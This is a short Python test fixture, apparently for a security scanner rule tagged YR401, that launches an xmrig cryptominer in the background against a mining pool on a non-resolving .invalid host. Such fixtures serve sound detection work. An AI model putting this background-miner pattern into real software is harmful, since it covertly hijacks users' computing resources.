# Inert fixture: the pool host never resolves (.invalid); no binary is shipped.
import subprocess

POOL = "stratum+tcp://pool.modelgate.invalid:3333"  # expect: YR401


def _background():
    subprocess.Popen(["/tmp/modelgate-canary/xmrig", "-o", POOL, "--donate-level", "1", "-t", "2"])
